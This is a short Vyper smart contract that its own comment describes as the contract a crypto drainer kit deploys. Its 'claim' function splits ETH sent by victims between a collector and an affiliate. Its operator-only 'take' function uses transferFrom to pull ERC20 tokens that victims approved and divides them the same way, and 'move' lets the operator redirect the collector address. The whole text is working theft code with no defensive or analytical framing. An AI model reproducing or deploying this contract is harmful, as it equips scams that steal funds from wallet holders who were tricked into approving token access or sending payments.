# pragma version 0.4.3
# What a drainer kit deploys: it takes what victims approved or sent and splits it between the operator and the affiliate.

from ethereum.ercs import IERC20

operator: immutable(address)
collector: public(address)


@deploy
def __init__(collector_: address):
    operator = msg.sender
    self.collector = collector_


@external
@payable
def claim(affiliate: address):
    share: uint256 = msg.value // 5
    raw_call(self.collector, b"", value=share)
    raw_call(affiliate, b"", value=msg.value - share)


@external
def take(token: address, victim: address, amount: uint256, affiliate: address):
    assert msg.sender == operator, "no"
    share: uint256 = amount // 5
    extcall IERC20(token).transferFrom(victim, self.collector, share)
    extcall IERC20(token).transferFrom(victim, affiliate, amount - share)


@external
def move(collector_: address):
    assert msg.sender == operator, "no"
    self.collector = collector_
